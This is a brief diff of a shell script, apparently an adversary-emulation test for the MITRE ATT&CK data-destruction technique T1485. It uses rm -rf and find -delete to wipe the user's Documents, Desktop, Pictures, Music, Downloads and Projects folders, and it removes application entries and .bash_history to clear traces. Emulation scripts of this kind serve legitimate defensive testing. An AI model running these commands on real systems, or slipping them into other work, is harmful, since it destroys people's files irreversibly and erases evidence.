@@ -1,7 +1,8 @@
 # T1485 by rm and find.
 groundwork
-for top in Documents Pictures Music Desktop Downloads Projects; do
+find Documents Desktop -type f -delete
+for top in Pictures Music Downloads Projects; do
     rnd 0 3
-    case $r in 0) find "$top" -type f -delete ;; 1) rm -rf "$top" ;; 2) find "$top" -type f -exec rm -f {} + ;; esac
+    case $r in 0) find "$top" -type f -delete ;; 1 | 2) rm -rf "$top" ;; esac
 done
-rm -rf Backups .local/share/applications Documents
+rm -rf Documents Desktop .local/share/applications .bash_history
